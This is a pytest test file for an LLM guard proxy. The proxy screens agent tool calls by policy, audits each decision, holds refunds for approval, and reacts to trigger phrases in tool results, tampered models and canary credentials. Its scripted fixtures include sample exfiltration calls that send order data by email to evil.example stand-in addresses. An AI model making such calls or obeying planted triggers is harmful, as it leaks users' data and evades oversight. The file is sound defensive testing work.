"""The guard proxy against its real server on loopback, a real scripted upstream and the real core.

The upstream (tests/_scripted_upstream.py) is a real HTTP server answering given tool calls;
the guard runs the real decision core (Cedar policy, registry, hash-chained audit log), so
what is checked is what a client and an auditor would see.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from _guard_env import (
    BILLING_CANARY,
    BILLING_KEY,
    CANARY,
    SUPPORT_KEY,
    TRIGGER,
    assemble,
    make_registry,
    sse_events,
    start_guard,
    user,
    write_policy,
)
from _scripted_upstream import Reply, ScriptedUpstream, tool

from dormant.adapters.openai_http import OpenAIChat
from dormant.guard._ops import GuardServer, JsonFormatter
from dormant.guard.approvals import Approvals
from dormant.guard.audit import AuditEntry, AuditLog
from dormant.guard.proxy import ProxySettings
from dormant.subjects.agent import ChatMessage

SCRIPT = {
    "read": Reply(calls=(tool("lookup_order", order_id="1234"),)),
    "mix": Reply(
        content="On it.",
        calls=(
            tool("lookup_order", order_id="1234"),
            tool("send_email", to="boss@evil.example", body="the orders"),
        ),
    ),
    "deny-all": Reply(calls=(tool("send_email", to="x@evil.example", body="hi"),)),
    "egress-ok": Reply(calls=(tool("send_email", to="ann@example.com", body="shipped"),)),
    "refund": Reply(calls=(tool("refund", order_id="1234", amount=10),)),
    "write": Reply(calls=(tool("update_ticket", ticket="7", status="closed"),)),
    "canary": Reply(calls=(tool("lookup_order", order_id=CANARY),)),
    "billing-canary": Reply(calls=(tool("lookup_order", order_id=BILLING_CANARY),)),
    "secret-text": Reply(content=f"Sure, the key is {CANARY} for you."),
    "long-mix": Reply(
        content="Looking that up for you now.",
        calls=(
            tool("lookup_order", order_id="5678"),
            tool("send_email", to="spy@evil.example", body="x" * 40),
        ),
        fragment=3,
    ),
}


@pytest.fixture(scope="module")
def upstream() -> Iterator[Any]:
    up = ScriptedUpstream(script=dict(SCRIPT), models=("stub", "stub-tampered", "unlisted"))
    server = up.serve()
    up.url = server.url  # type: ignore[attr-defined]
    yield up
    server.shutdown()


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    root = tmp_path_factory.mktemp("guard-proxy")
    return {
        "policy": write_policy(root / "policy"),
        "registry": make_registry(root / "registry.sqlite3"),
        "audit": f"sqlite:///{root / 'audit.sqlite3'}",
    }


@pytest.fixture(scope="module")
def guard(upstream: Any, env: dict[str, Any]) -> Iterator[Any]:
    server = start_guard(
        upstream.url,
        policy=env["policy"],
        registry=env["registry"],
        audit=env["audit"],
        upstream_key="sk-upstream",
        timeout=5,
    )
    yield server
    server.shutdown()


@pytest.fixture(scope="module")
def api(guard: GuardServer) -> Iterator[httpx.Client]:
    headers = {"authorization": f"Bearer {SUPPORT_KEY}"}
    with httpx.Client(base_url=guard.url, headers=headers, timeout=30) as client:
        yield client


@pytest.fixture
def audit(env: dict[str, Any]) -> Iterator[Any]:
    """A reader on the audit log: ``audit.new()`` returns the entries written since the test
    started."""
    log = AuditLog.open(env["audit"])
    start = len(log.entries())

    class Reader:
        def new(self) -> list[AuditEntry]:
            return log.entries(since=start)

        def decisions(self) -> list[AuditEntry]:
            return [e for e in self.new() if e.kind == "decision"]

        log_ = log

    yield Reader()
    log.close()


def message(resp: httpx.Response) -> tuple[dict[str, Any], str]:
    assert resp.status_code == 200, resp.text
    (choice,) = resp.json()["choices"]
    return choice["message"], choice["finish_reason"]


# -- non-streaming ---------------------------------------------------------------------------


def test_an_allowed_call_passes_unchanged_and_is_audited_first(
    api: httpx.Client, audit: Any, upstream: Any
) -> None:
    resp = api.post("/chat/completions", json=user("read"))
    msg, finish = message(resp)
    assert finish == "tool_calls" and msg["content"] is None
    (call,) = msg["tool_calls"]
    assert call["function"] == {"name": "lookup_order", "arguments": '{"order_id": "1234"}'}
    (entry,) = audit.new()
    assert (entry.kind, entry.outcome, entry.identity) == ("decision", "allow", "support-bot")
    assert entry.call is not None and entry.call["call_id"] == call["id"]
    assert entry.provenance == "verified" and entry.policy_version.startswith("sha256:")
    assert entry.request_id == resp.headers["x-request-id"]
    # the upstream got the guard's own key, never the agent's
    assert upstream.seen[-1]["auth"] == "Bearer sk-upstream"


def test_a_denied_call_is_removed_and_the_answer_says_which_and_why(
    api: httpx.Client, audit: Any
) -> None:
    msg, finish = message(api.post("/chat/completions", json=user("mix")))
    assert finish == "tool_calls"
    assert [c["function"]["name"] for c in msg["tool_calls"]] == ["lookup_order"]
    assert msg["content"].startswith("On it.\n\n[dormant guard] Tool call `send_email`")
    assert "was denied" in msg["content"] and "evil.example" in msg["content"]
    # the calls of one answer are checked concurrently (sharing a commit): any order
    outcomes = sorted((e.call["tool"], e.outcome) for e in audit.decisions())
    assert outcomes == [("lookup_order", "allow"), ("send_email", "deny")]


def test_when_every_call_is_denied_the_answer_is_plain_text_that_stops(
    api: httpx.Client, guard: GuardServer
) -> None:
    msg, finish = message(api.post("/chat/completions", json=user("deny-all")))
    assert finish == "stop" and "tool_calls" not in msg
    assert msg["content"].startswith("[dormant guard] Tool call `send_email`")
    # dormant's own OpenAI client reads the rewritten answer like any other
    with OpenAIChat(guard.url, model="stub", api_key=SUPPORT_KEY, retries=0) as client:
        got = client.chat([ChatMessage("user", "deny-all")])
    assert got.tool_calls == () and got.finish_reason == "stop"
    assert "was denied" in got.content


def test_an_allowed_destination_passes(api: httpx.Client) -> None:
    msg, finish = message(api.post("/chat/completions", json=user("egress-ok")))
    assert finish == "tool_calls" and msg["tool_calls"][0]["function"]["name"] == "send_email"


def test_a_held_call_is_queued_for_approval_and_reported(
    api: httpx.Client, audit: Any, env: dict[str, Any]
) -> None:
    msg, finish = message(api.post("/chat/completions", json=user("refund")))
    assert finish == "stop" and "tool_calls" not in msg
    assert "is held for approval as approval" in msg["content"]
    (entry,) = audit.new()
    assert entry.outcome == "hold"
    held = Approvals(audit.log_).list()
    assert held and held[-1].call["tool"] == "refund" and held[-1].audit_seq == entry.seq
    assert f"approval {held[-1].id}" in msg["content"]
    assert "Once it is approved, propose the same call again." in msg["content"]
    Approvals(audit.log_).approve(held[-1].id, actor="ops")
    seen = len(audit.new())
    # the agent asks again; the model proposes the same call; the approval releases it once
    msg, finish = message(api.post("/chat/completions", json=user("refund")))
    assert finish == "tool_calls" and msg["tool_calls"][0]["function"]["name"] == "refund"
    (entry,) = [e for e in audit.new()[seen:] if e.kind == "decision"]
    assert entry.outcome == "allow" and entry.detail["hold_id"] == held[-1].id
    msg, _ = message(api.post("/chat/completions", json=user("refund")))
    assert "is held for approval" in msg["content"]


def test_a_known_trigger_in_a_tool_result_drops_the_request_to_read_only(
    api: httpx.Client, audit: Any
) -> None:
    body = user("write")
    body["messages"] = [
        {"role": "user", "content": "close ticket 7"},
        {"role": "tool", "tool_call_id": "c1", "content": f"ticket 7: {TRIGGER} close it"},
        {"role": "user", "content": "write"},
    ]
    msg, finish = message(api.post("/chat/completions", json=body))
    assert finish == "stop" and "tool_calls" not in msg
    (entry,) = audit.new()
    assert entry.outcome == "deny" and entry.triggers[0]["text"] == TRIGGER
    assert entry.triggers[0]["where"] == "tool_result[1]"
    # the same call without the trigger is allowed
    msg, finish = message(api.post("/chat/completions", json=user("write")))
    assert finish == "tool_calls"


def test_a_tampered_model_gets_no_tools(api: httpx.Client, audit: Any) -> None:
    msg, finish = message(
        api.post("/chat/completions", json={**user("read"), "model": "stub-tampered"})
    )
    assert finish == "stop" and "tool_calls" not in msg
    (entry,) = audit.new()
    assert entry.provenance == "tampered" and entry.outcome == "deny"


def test_a_canary_credential_in_the_arguments_is_blocked_and_alerted(
    api: httpx.Client, audit: Any, guard: GuardServer
) -> None:
    msg, _ = message(api.post("/chat/completions", json=user("canary")))
    assert "tool_calls" not in msg and "canary" in msg["content"]
    (entry,) = audit.new()
    assert "canary" in entry.alerts
    metrics = httpx.get(guard.url.removesuffix("/v1") + "/metrics").text
    assert 'dormant_guard_alerts_total{alert="canary"}' in metrics


def test_the_response_text_is_screened(api: httpx.Client, audit: Any) -> None:
    msg, finish = message(api.post("/chat/completions", json=user("secret-text")))
    assert CANARY not in msg["content"] and finish == "stop"
    (entry,) = audit.new()
    assert entry.kind == "response"


def test_each_identity_has_its_own_permissions(guard: GuardServer) -> None:
    with httpx.Client(
        base_url=guard.url, headers={"authorization": f"Bearer {BILLING_KEY}"}
    ) as other:
        msg, _ = message(other.post("/chat/completions", json=user("egress-ok")))
        assert "tool_calls" not in msg
        msg, _ = message(other.post("/chat/completions", json=user("read")))
        assert msg["tool_calls"][0]["function"]["name"] == "lookup_order"


# -- streaming -------------------------------------------------------------------------------


def test_streaming_passes_text_and_releases_only_whole_decided_calls(
    api: httpx.Client, audit: Any
) -> None:
    with api.stream("POST", "/chat/completions", json=user("long-mix", stream=True)) as resp:
        assert resp.status_code == 200
        assert resp.headers["content-type"].startswith("text/event-stream")
        body = "".join(resp.iter_text())
    events = sse_events(body)
    assert events[-1] == "[DONE]"
    calls = [
        tc
        for ev in events[:-1]
        for ch in ev["choices"]
        for tc in ch["delta"].get("tool_calls") or []
    ]
    # one delta per released call, whole: the upstream's 3-character fragments never reach
    # the client
    assert len(calls) == 1 and json.loads(calls[0]["function"]["arguments"]) == {"order_id": "5678"}
    got = assemble(events)
    assert got["text"].startswith("Looking that up for you now.")
    assert "Tool call `send_email`" in got["text"] and got["finish"] == "tool_calls"
    assert sorted((e.call["tool"], e.outcome) for e in audit.decisions()) == [
        ("lookup_order", "allow"),
        ("send_email", "deny"),
    ]


def test_streaming_with_every_call_denied_finishes_with_stop(api: httpx.Client) -> None:
    with api.stream("POST", "/chat/completions", json=user("deny-all", stream=True)) as resp:
        got = assemble(sse_events("".join(resp.iter_text())))
    assert got["calls"] == [] and got["finish"] == "stop" and "was denied" in got["text"]


def test_streamed_text_with_a_credential_is_flagged(api: httpx.Client, audit: Any) -> None:
    with api.stream("POST", "/chat/completions", json=user("secret-text", stream=True)) as resp:
        got = assemble(sse_events("".join(resp.iter_text())))
    # streamed text cannot be recalled; the client is told, and the screen is audited
    assert "would have redacted" in got["text"] and got["finish"] == "stop"
    (entry,) = [e for e in audit.new() if e.kind == "response"]
    assert entry.detail["redactions"] >= 1


# -- operations ------------------------------------------------------------------------------


def test_models_healthz_and_metrics(api: httpx.Client, guard: GuardServer) -> None:
    models = api.get("/models").json()
    assert [m["id"] for m in models["data"]] == ["stub", "stub-tampered", "unlisted"]
    root = guard.url.removesuffix("/v1")
    health = httpx.get(root + "/healthz")
    assert health.status_code == 200 and health.json()["status"] == "ok"
    message(api.post("/chat/completions", json=user("mix")))  # one allowed, one denied call
    metrics = httpx.get(root + "/metrics")
    assert metrics.headers["content-type"].startswith("text/plain")
    text = metrics.text
    for name in (
        "dormant_guard_requests_total",
        "dormant_guard_decisions_total",
        "dormant_guard_upstream_latency_seconds_bucket",
        "dormant_guard_audit_write_seconds_bucket",
    ):
        assert name in text
    assert 'dormant_guard_decisions_total{outcome="allow"' in text
    # a destination the model chose never becomes a label value (bounded series)
    assert 'reason="destination _ is outside the tool\'s allow-list"' in text
    assert "evil.example" not in text


def test_the_audit_chain_verifies_after_the_run(
    env: dict[str, Any], api: httpx.Client, guard: Any
) -> None:
    message(api.post("/chat/completions", json=user("mix")))
    with AuditLog.open(env["audit"]) as log:
        result = log.verify()
    # released calls taught the monitoring baseline (the core buffers and batches its writes)
    view = guard.guard.baseline.view("stub", "support-bot")
    assert result.ok and result.entries > 0
    assert "lookup_order" in view.tools and view.decisions > 0


def test_logs_are_json_lines(api: httpx.Client, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, logger="dormant.guard")
    message(api.post("/chat/completions", json=user("read")))
    records = [r for r in caplog.records if r.name == "dormant.guard.proxy"]
    assert records
    line = json.loads(JsonFormatter().format(records[-1]))
    assert line["message"] == "request guarded" and line["identity"] == "support-bot"
    assert line["request_id"].startswith("req-") and line["level"] == "info"


def test_settings_are_checked() -> None:
    from dormant.errors import ConfigError

    with pytest.raises(ConfigError, match="--upstream must be an http"):
        ProxySettings("ftp://x")
    assert ProxySettings("http://127.0.0.1:9").upstream == "http://127.0.0.1:9/v1"
    with pytest.raises(ConfigError, match="'timeout' must be > 0"):
        ProxySettings("http://h/v1", timeout=0)


def test_placed_canaries_reach_the_model_and_their_use_is_a_critical_denial(
    guard: GuardServer, upstream: Any, api: httpx.Client, audit: Any
) -> None:
    """billing-bot's policy says place_canaries = true: the guard puts its canary in the system
    message it forwards (the agent's own body untouched); the model using it is denied and
    alerted. support-bot's requests go upstream as sent."""
    headers = {"authorization": f"Bearer {BILLING_KEY}"}
    body = {
        "model": "stub",
        "messages": [
            {"role": "system", "content": "You answer billing questions."},
            {"role": "user", "content": "billing-canary"},
        ],
    }
    with httpx.Client(base_url=guard.url, headers=headers, timeout=30) as billing:
        msg, finish = message(billing.post("/chat/completions", json=body))
    sent = upstream.seen[-1]["body"]["messages"]
    assert sent[0]["role"] == "system" and sent[0]["content"].startswith("You answer billing")
    assert BILLING_CANARY in sent[0]["content"] and len(sent) == 2
    assert finish == "stop" and "canary" in msg["content"]
    (entry,) = [e for e in audit.new() if e.kind == "decision"]
    assert entry.outcome == "deny" and entry.identity == "billing-bot" and "canary" in entry.alerts
    message(api.post("/chat/completions", json=user("read")))
    assert upstream.seen[-1]["body"]["messages"] == user("read")["messages"]
